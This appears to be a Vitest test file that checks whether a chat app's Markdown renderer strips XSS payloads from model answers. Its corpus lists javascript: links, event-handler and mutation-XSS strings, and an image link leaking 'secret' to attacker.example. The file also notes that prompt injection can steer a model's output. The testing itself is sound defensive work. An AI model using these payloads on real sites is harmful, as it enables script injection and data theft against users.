// @vitest-environment jsdom
/**
 * The second lock on a model's answer (threat-model G17): whatever Markdown a model (or a
 * prompt injection through it) writes, what reaches the DOM runs nothing, loads nothing by
 * itself and links only to the web or to mail. jsdom stands in for the browser's DOM, as in
 * DOMPurify's own tests; e2e/chat.spec.ts checks the same layer in Chromium.
 */
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './sanitize.ts';

/** Payloads that try each way in: Markdown links and images, autolinks, raw HTML, mutation XSS, attribute breakouts. */
const CORPUS: readonly string[] = [
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#x09;script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click]( javascript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](blob:https://argus.example/0b3f)',
  '[click](file:///etc/passwd)',
  // Schemes DOMPurify itself would keep: Argus links only to the web and to mail.
  '[call](tel:+15555550100)',
  '[text](sms:+15555550100)',
  '[get](ftp://files.example/x)',
  '[chat](xmpp:someone@example.com)',
  '[click][evil]\n\n[evil]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![pixel](javascript:alert(1))',
  '![pixel](https://attacker.example/leak?c=secret)',
  '[ok](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '[ok](https://example.com" onmouseover="alert(1))',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">raw link</a>',
  '<form action="https://attacker.example"><input name=q><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '> [quoted](javascript:alert(1))\n> <script>alert(1)</script>',
  '- [listed](javascript:alert(1))\n- **<b onclick=alert(1)>bold</b>**',
  'https://example.com/<script>alert(1)</script>',
  '<mailto:someone@example.com?subject=<script>>',
];

const FORBIDDEN_TAGS = new Set(['SCRIPT', 'STYLE', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'LINK', 'META', 'BASE', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'OPTION', 'IMG', 'VIDEO', 'AUDIO', 'SOURCE', 'PICTURE', 'SVG', 'MATH']);

/** Every way the fragment could run, load or send something; empty when it is safe. */
function hazards(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  for (const element of fragment.querySelectorAll('*')) {
    const tag = element.tagName.toUpperCase();
    if (FORBIDDEN_TAGS.has(tag)) found.push(`<${tag.toLowerCase()}>`);
    for (const { name, value } of element.attributes) {
      const attribute = name.toLowerCase();
      if (attribute.startsWith('on')) found.push(`${tag.toLowerCase()} ${attribute}`);
      if (attribute === 'style' || attribute === 'src' || attribute === 'srcset' || attribute === 'srcdoc' || attribute === 'action' || attribute === 'formaction') found.push(`${tag.toLowerCase()} ${attribute}`);
      if (attribute === 'href' && !/^(?:https?:|mailto:)/i.test(value)) found.push(`${tag.toLowerCase()} href=${value}`);
    }
    if (tag === 'A' && element.hasAttribute('href') && (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')) {
      found.push('a link that may tell the other site about this one');
    }
  }
  return found;
}

describe('renderMarkdown (Markdown, then DOMPurify)', () => {
  it.each(CORPUS)('leaves nothing that runs, loads or links anywhere but the web or mail: %s', (payload) => {
    expect(hazards(renderMarkdown(payload))).toEqual([]);
  });

  it('keeps what an answer is for: emphasis, code, lists, tables and web links that open in a new tab', () => {
    const fragment = renderMarkdown('**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/docs) and <mailto:help@example.com>');
    expect(hazards(fragment)).toEqual([]);
    expect(fragment.querySelector('strong')?.textContent).toBe('bold');
    expect(fragment.querySelector('code')?.textContent).toBe('code');
    expect(fragment.querySelectorAll('li')).toHaveLength(2);
    expect(fragment.querySelectorAll('td')).toHaveLength(2);
    const links = [...fragment.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')]);
    expect(links).toEqual([
      ['https://example.com/docs', '_blank', 'noopener noreferrer'],
      ['mailto:help@example.com', '_blank', 'noopener noreferrer'],
    ]);
  });

  it('shows raw HTML and refused links as text, so nothing the model wrote is lost from view', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)> [click](javascript:alert(1))');
    const text = html.textContent ?? '';
    expect(text).toContain('<img src=x onerror=alert(1)>');
    expect(text).toContain('click');
    expect(html.querySelector('a')?.hasAttribute('href') ?? false).toBe(false);
  });
});
